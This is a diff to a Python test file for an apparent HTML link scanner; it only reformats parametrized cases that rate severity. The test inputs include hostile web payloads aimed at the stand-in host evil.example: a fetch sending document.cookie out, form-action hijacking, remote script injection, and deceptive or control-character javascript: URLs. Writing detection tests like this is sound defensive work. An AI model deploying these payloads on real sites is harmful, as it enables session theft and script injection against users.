@@ -63,11 +63,7 @@ def test_what_a_place_does(element: str | None, attribute: str | None, effect: s
     ("<img src='data:text/html,<script>x()</script>'>", "data-active", "info"),
     ("<script src='data:text/javascript,x()'>", "data-active", "low"),
     ("<script>x = 'data:text/javascript;base64'</script>", "data-active", "info"),
-    (
-        "<script>x = 'data:text/html;base64," + "PGI+" * 9 + "'</script>",
-        "data-active",
-        "medium",
-    ),
+    ("<script>x = 'data:text/html;base64," + "PGI+" * 9 + "'</script>", "data-active", "medium"),
     ("<a href='https://a.example/?a\nb'>", "control-char", "low"),
     ("<a href='https://a.ex\nample/'>", "control-char", "medium"),
     ("<a href='java\nscript:x()'>", "control-char", "high"),
@@ -78,7 +74,7 @@ def test_what_a_place_does(element: str | None, attribute: str | None, effect: s
     ("<q cite='https://paypal.com@a.example/'>", "userinfo-deceptive", "low"),
     ("<img src='https://paypal.com@a.example/'>", "userinfo-deceptive", "medium"),
     ("<img src='file://a.example/x/y.png'>", "file-remote", "high"),
-)
+)  # fmt: skip
 def test_what_counts_where(page: str, code: str, severity: str) -> None:
     assert severity_of(page, code) == severity
 
@@ -122,11 +118,7 @@ def test_white_space_around_a_value_is_no_part_of_it(value: str) -> None:
     ("document.links[0].href='https://evil.example/'", "medium", "changes"),
     ("fetch('https://evil.example/?'+document.cookie)", "high", "send data to evil.example"),
     ("document.forms[0].action='https://evil.example/'", "high", "send data"),
-    (
-        "s=document.createElement('script');s.src='//evil.example/x.js'",
-        "high",
-        "loads a script",
-    ),
+    ("s=document.createElement('script');s.src='//evil.example/x.js'", "high", "loads a script"),
     ("import('https://evil.example/x.js')", "high", "loads a"),
     ("eval(x)", "high", 'as it runs: "eval("'),
     ("loc\\u0061tion=x", "high", "as it runs"),
@@ -143,7 +135,7 @@ def test_white_space_around_a_value_is_no_part_of_it(value: str) -> None:
     ("showImage('https://cdn.example/a.jpg')", None, ""),
     ("this.src='https://cdn.example/a.jpg'", None, ""),
     ("decrypt('nbjmup+jogp')", None, ""),
-)
+)  # fmt: skip
 def test_what_code_in_a_link_does(code: str, severity: str | None, words: str) -> None:
     page = HOME + f'<a href="javascript:{code}">x</a>'
     found = said(page).get("script-link")
